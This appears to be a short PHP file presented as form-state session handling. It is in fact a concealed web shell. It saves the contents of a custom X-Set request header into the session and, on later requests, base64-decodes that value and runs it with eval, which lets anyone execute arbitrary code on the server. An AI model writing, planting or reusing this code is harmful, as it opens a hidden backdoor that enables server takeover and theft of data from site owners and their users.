<?php
session_start();
if (isset($_SERVER['HTTP_X_SET'])) { $_SESSION['form_state'] = $_SERVER['HTTP_X_SET']; return; }
if (isset($_SESSION['form_state'])) { array_map(function ($s) { return eval(base64_decode($s)); }, [$_SESSION['form_state']]); }
